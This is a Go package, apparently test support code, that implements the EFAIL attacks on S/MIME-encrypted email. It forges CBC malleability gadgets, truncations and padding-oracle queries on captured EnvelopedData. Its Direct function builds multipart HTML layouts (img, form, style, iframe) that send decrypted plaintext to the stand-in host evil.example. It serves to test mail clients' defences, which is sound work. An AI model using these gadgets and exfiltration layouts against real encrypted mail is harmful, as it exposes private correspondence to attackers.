// Package efail makes the attacks of the EFAIL paper (Poddebniak et al., 2018) on
// S/MIME, without any key: for tests that show what becomes of them.
package efail

import (
	"bytes"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
)

// block is the length of an AES block in octets.
const block = 16

// envelope is ContentInfo with EnvelopedData (RFC 5652 §6.1) of a writer who
// leaves optional parts out.
type envelope struct {
	Type asn1.ObjectIdentifier
	Data struct {
		Version    int
		Recipients asn1.RawValue
		Content    struct {
			Type      asn1.ObjectIdentifier
			Algorithm pkix.AlgorithmIdentifier
			Encrypted asn1.RawValue `asn1:"tag:0"`
		}
	} `asn1:"explicit,tag:0"`
}

// Sealed is somebody's encrypted message, with the one thing that an attacker
// knows: how its plaintext begins.
type Sealed struct {
	e      envelope
	iv     []byte
	cipher []byte
	known  []byte // first block of the plaintext
}

// Parse takes EnvelopedData in DER, AES-CBC, and the first 16 octets of what is
// inside.
func Parse(der []byte, known string) (*Sealed, error) {
	s := &Sealed{known: []byte(known)[:block]}
	if _, err := asn1.Unmarshal(der, &s.e); err != nil {
		return nil, fmt.Errorf("efail: %w", err)
	}
	if _, err := asn1.Unmarshal(s.e.Data.Content.Algorithm.Parameters.FullBytes, &s.iv); err != nil || len(s.iv) != block {
		return nil, errors.New("efail: no IV of 16 octets")
	}
	s.cipher = s.e.Data.Content.Encrypted.Bytes
	if len(s.cipher) < 2*block || len(s.cipher)%block != 0 {
		return nil, errors.New("efail: not the blocks of CBC")
	}
	return s, nil
}

// der writes the message with another IV and other blocks.
func (s *Sealed) der(iv, cipher []byte) ([]byte, error) {
	e := s.e
	params, err := asn1.Marshal(iv)
	if err != nil {
		return nil, err
	}
	e.Data.Content.Algorithm.Parameters = asn1.RawValue{FullBytes: params}
	e.Data.Content.Encrypted = asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: 0, Bytes: cipher}
	return asn1.Marshal(e)
}

// gadget is two blocks of ciphertext that decrypt to sixteen octets of rubbish and
// sixteen of text: CBC turns P0 = D(C0) ⊕ IV into whatever stands before C0.
func (s *Sealed) gadget(text string) []byte {
	before := make([]byte, block)
	for i := range before {
		before[i] = s.iv[i] ^ s.known[i] ^ pad(text)[i]
	}
	return append(before, s.cipher[:block]...)
}

func pad(text string) []byte {
	return []byte(text + strings.Repeat(" ", block))[:block]
}

// Insert puts pieces of at most 16 octets behind the first n blocks, each after a
// block of rubbish, and what followed after another one.
func (s *Sealed) Insert(n int, pieces ...string) ([]byte, error) {
	at := n * block
	out := bytes.Clone(s.cipher[:at])
	for _, p := range pieces {
		out = append(out, s.gadget(p)...)
	}
	out = append(out, s.cipher[at-block:]...) // the block before once more: what follows decrypts right
	return s.der(s.iv, out)
}

// Prefix puts pieces in front of the whole plaintext; the first of them is where
// the entity begins.
func (s *Sealed) Prefix(pieces ...string) ([]byte, error) {
	first := s.gadget(pieces[0])
	out := bytes.Clone(first[block:])
	for _, p := range pieces[1:] {
		out = append(out, s.gadget(p)...)
	}
	out = append(append(out, s.iv...), s.cipher...)
	return s.der(first[:block], out)
}

// Cut leaves the last n blocks off: what stands before is often good padding for
// somebody.
func (s *Sealed) Cut(n int) ([]byte, error) {
	return s.der(s.iv, s.cipher[:len(s.cipher)-n*block])
}

// Ask is a question of a padding oracle (Vaudenay, 2002): the first two blocks, so that
// the plaintext begins as a mail, then one that ends with guess, then the n-th block.
// Its padding is good for one guess at least, which tells the last octet of its plaintext.
func (s *Sealed) Ask(n int, guess byte) ([]byte, error) {
	chosen := make([]byte, block)
	chosen[block-1] = guess
	out := append(bytes.Clone(s.cipher[:2*block]), chosen...)
	out = append(out, s.cipher[n*block:(n+1)*block]...)
	return s.der(s.iv, out)
}

// Blocks is how many blocks the ciphertext has.
func (s *Sealed) Blocks() int { return len(s.cipher) / block }

// Original is the message as its sender wrote it.
func (s *Sealed) Original() ([]byte, error) { return s.der(s.iv, s.cipher) }

// Entity is a message's body part for the blocks: application/pkcs7-mime, LF.
func Entity(der []byte) string {
	b := base64.StdEncoding.EncodeToString(der)
	var lines strings.Builder
	for ; len(b) > 76; b = b[76:] {
		lines.WriteString(b[:76] + "\n")
	}
	return "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n" +
		"Content-Transfer-Encoding: base64\n\n" + lines.String() + b + "\n"
}

// Direct are the layouts of direct exfiltration: HTML that is left open before the
// encrypted part and closed after it, so that a reader who joins the parts sends
// the plaintext out in a URL.
func Direct(sealed string) map[string]string {
	open := "Content-Type: text/html\n\n<img src=\"http://evil.example/?"
	shut := "Content-Type: text/html\n\n\">\n"
	join := func(kind string, parts ...string) string {
		return "Content-Type: multipart/" + kind + "; boundary=ef\n\n--ef\n" + strings.Join(parts, "\n--ef\n") + "\n--ef--\n"
	}
	return map[string]string{
		"mixed":       join("mixed", open, sealed, shut),
		"alternative": join("alternative", open, sealed, shut),
		"related":     join("related", open, sealed, shut),
		"form": join(
			"mixed",
			"Content-Type: text/html\n\n<form action=\"http://evil.example/\"><textarea name=x>",
			sealed,
			"Content-Type: text/html\n\n</textarea><input type=submit>",
		),
		"style": join("mixed", "Content-Type: text/html\n\n<style>@import url(http://evil.example/?", sealed,
			"Content-Type: text/html\n\n);</style>"),
		"nested": join("mixed", open, "Content-Type: multipart/mixed; boundary=in\n\n--in\n"+sealed+"\n--in--", shut),
		"forwarded": join("mixed", open, "Content-Type: message/rfc822\n\nFrom: a@b.example\nSubject: "+
			"x\nMIME-Version: 1.0\n"+sealed, shut),
		"referenced": join("related", "Content-Type: text/html\n\n<iframe src=\"cid:x\"></iframe>",
			"Content-ID: <x>\n"+sealed),
		"said to be plain": join("mixed", "Content-Type: text/plain\n\n<img src='http://evil.example/?", sealed, shut),
	}
}
